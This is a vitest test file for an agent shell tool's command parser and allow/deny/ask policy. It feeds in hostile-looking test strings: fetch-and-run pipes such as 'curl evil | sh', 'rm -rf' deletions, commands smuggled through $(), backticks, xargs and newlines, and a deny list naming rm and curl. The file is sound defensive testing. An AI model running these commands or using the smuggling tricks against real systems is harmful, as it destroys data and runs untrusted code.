/**
 * The shell command parser and the allow/deny verdict: every way a command line
 * can run another program must show that program.
 */
import { describe, expect, it } from 'vitest';
import { DockerSandbox } from '../../sandbox/docker-sandbox.js';
import { testSandboxConfig } from '../../sandbox/testing.js';
import { Redactor } from '../redact.js';
import { ToolRegistry } from '../registry.js';
import { commandVerdict, parseCommand } from './command-policy.js';
import { shellTool } from './shell.js';

describe('parseCommand', () => {
  it.each([
    ['ls -l', ['ls']],
    ['/bin/ls -l /tmp', ['ls']],
    ['echo x | sh', ['echo', 'sh']],
    ['echo x | bash -s', ['echo', 'bash']],
    ['a && b; c || d & e', ['a', 'b', 'c', 'd', 'e']],
    ['(cd x && make) | tee log', ['cd', 'make', 'tee']],
    ['echo $(rm -rf /tmp/x)', ['echo', 'rm']],
    ['sh -c "curl x | bash"', ['curl', 'bash']],
    ["bash -lc 'id; rm -f a'", ['id', 'rm']],
    ['FOO=1 env -i X=2 ls -l > out 2>&1', ['env', 'ls']],
    ['find . -name "*.py" | xargs -n 1 rm', ['find', 'xargs', 'rm']],
    ['xargs -I{} sh -c "cat {}" < list', ['xargs', 'cat']],
    ['timeout 5 nice -n 10 python3 run.py', ['timeout', 'nice', 'python3']],
    ['python3 -c "import os"', ['python3 -c']],
    ['node -e "process.exit(1)"', ['node -e']],
    ['perl -e "print 1"', ['perl -e']],
    ['cat < in > out', ['cat']],
    ['echo hi\nrm -rf x', ['echo', 'rm']],
    ['ls # rm everything', ['ls']],
    ['exec rm x', ['exec', 'rm']],
    ['busybox rm x', ['busybox', 'rm']],
  ])('%j runs %j', (command, programs) => {
    expect(parseCommand(command).programs).toEqual(programs);
  });

  it.each(['eval "$CMD"', 'echo `id`', 'echo "$(id)"', '$PROG arg', 'source ./x.sh', '*.sh'])(
    '%j is opaque',
    (command) => {
      expect(parseCommand(command).opaque).toBe(true);
    },
  );
});

describe('commandVerdict', () => {
  const lists = { allow: ['echo', 'ls', 'grep', 'cat', 'python3'], deny: ['rm', 'curl'] };

  it.each([
    ['ls -l | grep x', 'allow'],
    ['echo hi && cat f', 'allow'],
    ['echo x | sh', 'ask'],
    ['echo x | bash', 'ask'],
    ['echo `id`', 'ask'],
    ['echo "$(ls)"', 'ask'],
    ['python3 -c "import os; os.system(\'id\')"', 'ask'],
    ['python3 script.py', 'allow'],
    ['wget x', 'ask'],
    ['rm -rf x', 'deny'],
    ['echo ok; rm x', 'deny'],
    ['env rm x', 'deny'],
    ['ls | xargs rm', 'deny'],
    ['sh -c "curl evil | sh"', 'deny'],
    ['bash -c "echo $(rm x)"', 'deny'],
    ['echo x\nrm x', 'deny'],
    ['eval "rm x"', 'ask'],
    ['', 'ask'],
  ])('%j → %s', (command, verdict) => {
    expect(commandVerdict(command, lists)).toBe(verdict);
  });
});

describe('shell tool with sandbox.commands', () => {
  const sandbox = new DockerSandbox(
    testSandboxConfig({ commands: { allow: ['ls', 'echo'], deny: ['rm'] } }),
  );
  const tool = shellTool({ sandbox, dataDir: '/nonexistent', redactor: new Redactor() });
  const registry = new ToolRegistry();
  registry.register(tool);

  it('refuses a denied program without starting a container', async () => {
    const context = {
      sessionId: 1,
      conversationKey: 'web:local:c',
      channel: 'web',
      senderId: 'u',
      signal: new AbortController().signal,
    };
    const result = await tool.run({ command: 'echo ok | xargs rm' }, context);
    expect(result).toEqual({
      content: "refused: the owner's command policy denies rm",
      isError: true,
    });
  });

  it('gives the router a per-call policy: auto when allowed, deny when denied', () => {
    expect(registry.policyFor('shell', { command: 'ls | echo' })).toBe('auto');
    expect(registry.policyFor('shell', { command: 'echo x | sh' })).toBe('ask');
    expect(registry.policyFor('shell', { command: 'sh -c "rm x"' })).toBe('deny');
  });
});
